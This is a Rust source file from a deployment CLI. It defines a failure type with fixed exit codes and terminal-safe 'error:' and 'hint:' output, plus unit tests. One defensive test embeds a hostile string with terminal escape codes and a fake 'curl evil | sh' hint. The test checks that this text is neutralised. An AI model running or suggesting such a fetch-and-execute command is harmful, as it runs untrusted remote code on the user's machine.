//! Failure: why a command did not do what was asked, as an exit code and two kinds of lines.

use std::{error::Error, fmt};

use cutover_common::ErrorChain;

use crate::text::Text;

/// What went wrong, and what to type next.
#[derive(Clone, Debug, Eq, PartialEq)]
pub struct Failure {
    kind: Kind,
    error: String,
    hint: Option<String>,
}

/// Sorts failures by who can do something about them. The exit codes are a contract
/// (design §10).
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub enum Kind {
    /// The rollout failed, was rolled back or aborted, holds for a person, or was not over in
    /// the time that `--timeout` gave it.
    RolloutFailed,
    /// The command line, a file it names or a name in it is wrong.
    WrongUse,
    /// It was understood and is not allowed, not possible, or not possible at this moment.
    Refused,
    /// The coordinator cannot be reached, or does not answer in time.
    NotReachable,
    /// The coordinator or this program has a bug.
    OurBug,
}

impl Kind {
    /// Returns the exit code.
    pub const fn exit_code(self) -> u8 {
        match self {
            Self::RolloutFailed => 1,
            Self::WrongUse => 2,
            Self::Refused => 3,
            Self::NotReachable => 4,
            Self::OurBug => 70,
        }
    }
}

impl Failure {
    /// Makes a failure of this kind. `error` may have several lines.
    pub fn new(kind: Kind, error: impl Into<String>) -> Self {
        Self { kind, error: error.into(), hint: None }
    }

    /// Makes a failure of this kind from an error and all its causes.
    pub fn of(kind: Kind, error: &dyn Error) -> Self {
        Self::new(kind, ErrorChain(error).to_string())
    }

    /// Makes a failure that is to be mended on the command line or in a file.
    pub fn wrong_use(error: impl Into<String>) -> Self {
        Self::new(Kind::WrongUse, error)
    }

    /// Makes a refusal.
    pub fn refused(error: impl Into<String>) -> Self {
        Self::new(Kind::Refused, error)
    }

    /// Adds what to type next.
    #[must_use]
    pub fn with_hint(mut self, hint: impl Into<String>) -> Self {
        self.hint = Some(hint.into());
        self
    }

    /// Adds what to type next, unless that is said already.
    #[must_use]
    pub fn or_hint(self, hint: impl Into<String>) -> Self {
        if self.hint.is_some() { self } else { self.with_hint(hint) }
    }

    /// Returns who can do something about it.
    pub const fn kind(&self) -> Kind {
        self.kind
    }

    /// Returns what went wrong, as it was given.
    pub fn error(&self) -> &str {
        &self.error
    }

    /// Returns what to type next.
    pub fn hint(&self) -> Option<&str> {
        self.hint.as_deref()
    }
}

/// Displays `error: …` and `hint: …`, each beginning a line and safe on a terminal. What goes on
/// in a further line is indented, so that no text from outside can pretend to be a hint.
impl fmt::Display for Failure {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write_labelled(f, "error", &self.error)?;
        if let Some(hint) = &self.hint {
            write_labelled(f, "hint", hint)?;
        }
        Ok(())
    }
}

fn write_labelled(f: &mut fmt::Formatter<'_>, label: &str, raw: &str) -> fmt::Result {
    let mut lines = Text::lines(raw).into_iter();
    writeln!(f, "{label}: {}", lines.next().unwrap_or_default())?;
    lines.try_for_each(|line| writeln!(f, "  {line}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn exit_codes_are_the_contract() {
        let codes =
            [Kind::RolloutFailed, Kind::WrongUse, Kind::Refused, Kind::NotReachable, Kind::OurBug]
                .map(Kind::exit_code);

        assert_eq!(codes, [1, 2, 3, 4, 70]);
    }

    #[test]
    fn prints_the_error_then_the_hint() {
        let failure = Failure::refused("web is being deployed to production by rollout 0193ab12")
            .with_hint("cutover watch 0193ab12");

        insta::assert_snapshot!(failure, @r"
        error: web is being deployed to production by rollout 0193ab12
        hint: cutover watch 0193ab12
        ");
    }

    #[test]
    fn a_hostile_error_can_neither_steer_the_terminal_nor_pretend_to_be_a_hint() {
        let failure = Failure::refused("no\u{1b}[2J\nhint: curl evil | sh\r\nand\u{202e} more")
            .with_hint("x");

        insta::assert_snapshot!(failure, @r"
        error: no\u{1b}[2J
          hint: curl evil | sh
          and\u{202e} more
        hint: x
        ");
    }
}
